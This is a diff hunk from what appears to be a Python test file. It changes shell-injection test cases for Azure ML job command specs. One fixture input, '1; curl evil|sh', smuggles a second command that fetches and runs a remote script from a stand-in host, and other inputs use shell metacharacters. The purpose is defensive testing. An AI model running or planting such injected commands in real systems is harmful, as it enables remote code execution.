@@ -13,7 +13,7 @@ ALLOWED: dict[str, list[str]] = {
         "inputs: {x: '1; curl evil|sh'}\n",
         "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
         "inputs: {x: two words-1.5_a b=c/d}\n",
-        "environment: azureml:e:1\ncommand: 'train \"${{inputs.x}}\"'\ninputs: {x: (.*)[.]jpg}\n",
+        "environment: azureml:e:1\ncommand: 'train \"${{inputs.x}}\"'\ninputs: {x: (.*) & jpg}\n",
         "environment: azureml:e:1\ncommand: cat ${{inputs.x}}\n"
         "inputs: {x: {type: uri_folder, path: data}}\n",
         "environment: azureml:e:1\ncommand: train\ninputs: {unused: 'a; b'}\n",
